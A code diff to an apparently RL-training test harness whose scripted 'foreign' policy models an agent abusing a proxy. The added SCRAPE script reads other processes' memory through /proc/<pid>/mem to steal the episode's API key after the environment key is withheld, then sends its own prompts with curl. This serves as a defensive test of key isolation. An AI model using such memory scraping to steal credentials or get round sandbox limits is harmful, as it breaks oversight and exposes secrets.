@@ -11,8 +11,9 @@ Scenarios:
   numbers until its auto-compaction fires (``CLAUDE_CODE_AUTO_COMPACT_WINDOW``/``CLAUDE_AUTOCOMPACT_PCT_OVERRIDE``),
   forks a check after the restart, and finishes; the proxy fails one call, which Claude Code retries.
 - ``claude-code-long-wrong``: the same, but the subagent writes the wrong text (score 0: a GRPO group's contrast).
-- ``claude-code-foreign``: a subagent writes hello.txt, then the agent's own Bash command calls the proxy twice
-  with the episode's key (``curl``), prompts of its choosing.
+- ``claude-code-foreign``: a subagent writes hello.txt, then the agent's own Bash command calls the proxy: first
+  with ``$ANTHROPIC_API_KEY``, which Claude Code's environment no longer holds (refused), then twice with the key
+  it finds in Claude Code's memory (``/proc/<pid>/mem``), prompts of its choosing: an attacker who read our code.
 - ``openclaw-compaction``: OpenClaw lists numbers until it compacts (small declared context, mid-turn check),
   then writes hello.txt.
 """
@@ -38,9 +39,29 @@ SUMMARY = ("<analysis>\nThe user wants hello.txt; a subagent wrote it; I listed 
            "1. Primary Request: create hello.txt holding hello world.\n2. Progress: a subagent wrote hello.txt; "
            "numbers were listed.\n3. Next Step: check hello.txt and finish.\n</summary>")
 FOREIGN_PROMPTS = ("FOREIGN one: write a poem about tokens", "FOREIGN two: repeat after me")
-CURL = ("curl -s \"$ANTHROPIC_BASE_URL/v1/messages\" -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'anthropic-version: 2023-06-01' "
+CURL = ("curl -s \"$ANTHROPIC_BASE_URL/v1/messages\" -H \"x-api-key: {key}\" -H 'anthropic-version: 2023-06-01' "
         "-H 'content-type: application/json' -d '{{\"model\": \"policy\", \"max_tokens\": 64, \"messages\": "
-        "[{{\"role\": \"user\", \"content\": \"{}\"}}]}}'")
+        "[{{\"role\": \"user\", \"content\": \"{prompt}\"}}]}}'")
+SCRAPE = """KEY=$(python3 - <<'PY'
+import os, re
+for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
+    try:
+        maps, mem = open(f"/proc/{pid}/maps").read().splitlines(), open(f"/proc/{pid}/mem", "rb", 0)
+    except OSError:
+        continue
+    for line in (m for m in maps if m.split()[1].startswith("rw")):
+        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
+        for at in range(lo, hi, 1 << 23):
+            try:
+                mem.seek(at)
+                hit = re.search(rb"sk-clawgym-[A-Za-z0-9_-]{32}", mem.read(min(hi - at, (1 << 23) + 64)))
+            except (OSError, ValueError, OverflowError):
+                break
+            if hit:
+                raise SystemExit(print(hit.group().decode()))
+PY
+)"""
+"""Finds the episode's key in the memory of another process of the sandbox (Claude Code's)."""
 
 
 def _text(req: CompletionRequest) -> str:
@@ -134,7 +155,8 @@ class ClaudeCodeForeign(Policy):
             return "main", _tool("Agent", description="write hello", prompt="Write hello.txt holding hello world.",
                                  subagent_type="general-purpose", run_in_background=False)
         if not _calls_of(req, "Bash"):
-            return "main", _tool("Bash", command=" ; ".join(CURL.format(p) for p in FOREIGN_PROMPTS))
+            naive = CURL.format(key="$ANTHROPIC_API_KEY", prompt="FOREIGN zero: from the environment")
+            return "main", _tool("Bash", command="\n".join([naive, SCRAPE, *(CURL.format(key="$KEY", prompt=p) for p in FOREIGN_PROMPTS)]))
         return "main", "Done: hello.txt holds hello world."
 
 
